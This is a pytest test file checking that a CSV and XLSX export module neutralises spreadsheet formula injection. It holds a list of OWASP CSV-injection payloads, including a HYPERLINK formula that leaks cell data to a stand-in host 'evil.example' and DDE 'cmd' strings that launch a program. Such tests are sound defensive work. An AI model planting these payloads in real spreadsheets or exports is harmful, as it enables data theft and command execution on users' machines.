"""boards.exports.tables: CSV and XLSX of the record, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import openpyxl
import pytest

from boards.exports.tables import to_csv, to_xlsx

COLUMNS = [("label", "Contributo"), ("text", "Testo"), ("organisation", "Ente"), ("votes", "Voti")]
# OWASP CSV injection payloads, one per trigger character.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Clicca")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_is_utf8_with_bom_semicolons_and_a_header_row():
    rows = [{"label": "C12", "text": "Più panchine; e ombra, \"subito\"\nanche 😀",
             "organisation": "Cooperativa L'Àncora", "votes": 3}]
    data = to_csv(COLUMNS, rows)
    assert b"\r\n" in data
    assert read_csv(data) == [
        ["Contributo", "Testo", "Ente", "Voti"],
        ["C12", "Più panchine; e ombra, \"subito\"\nanche 😀", "Cooperativa L'Àncora", "3"],
    ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_neutralises_formulas(payload):
    rows = [{"label": payload, "text": payload, "organisation": payload, "votes": payload}]
    header, row = read_csv(to_csv(COLUMNS, rows))
    assert row == ["'" + payload] * 4


def test_csv_keeps_numbers_and_values_that_only_contain_triggers():
    rows = [{"label": "C1", "text": "costo 2+2=4 @ casa", "organisation": None, "votes": -5},
            {"label": "C2", "text": Decimal("1234.50"), "organisation": 2.5, "votes": True},
            {"label": "C3", "text": datetime(2026, 11, 27, 9, 30, tzinfo=UTC)}]
    assert read_csv(to_csv(COLUMNS, rows))[1:] == [
        ["C1", "costo 2+2=4 @ casa", "", "-5"],
        ["C2", "1234,50", "2,5", "sì"],
        ["C3", "2026-11-27T09:30:00+00:00", "", ""],
    ]


def test_csv_of_no_rows_is_the_header():
    assert read_csv(to_csv(COLUMNS, [])) == [["Contributo", "Testo", "Ente", "Voti"]]


def load(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_stores_formulas_as_text(payload):
    sheet = load(to_xlsx(COLUMNS, [{"label": payload, "text": payload, "votes": 1}]))
    for cell in (sheet["A2"], sheet["B2"]):
        assert cell.data_type == "s" and cell.value == payload
        assert cell.quotePrefix, "Excel keeps a quote-prefixed cell text even when edited"
    assert sheet["D2"].value == 1 and sheet["D2"].data_type == "n"


def test_xlsx_has_a_bold_frozen_header_filters_and_typed_values():
    rows = [{"label": "C12", "text": "Più panchine 😀", "organisation": "L'Àncora", "votes": 3},
            {"label": "C13", "text": "controllo\x07 tolto", "organisation": None,
             "votes": datetime(2026, 11, 27, 10, 30, tzinfo=UTC)}]
    sheet = load(to_xlsx(COLUMNS, rows))
    assert [cell.value for cell in sheet[1]] == ["Contributo", "Testo", "Ente", "Voti"]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:D3"
    assert [cell.value for cell in sheet[2]] == ["C12", "Più panchine 😀", "L'Àncora", 3]
    assert sheet["B3"].value == "controllo tolto"
    assert sheet["D3"].value == datetime(2026, 11, 27, 10, 30)
    assert not any(cell.quotePrefix for row in sheet.iter_rows() for cell in row)
